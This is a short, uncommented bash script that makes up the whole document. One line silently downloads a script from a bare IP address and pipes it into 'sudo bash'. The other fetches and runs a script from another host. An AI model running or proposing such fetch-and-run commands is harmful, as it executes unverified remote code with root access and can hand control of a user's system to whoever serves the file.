#!/usr/bin/env bash
wget -qO- https://203.0.113.7/setup | sudo bash
bash <(curl -s https://get.tool.dev/x)
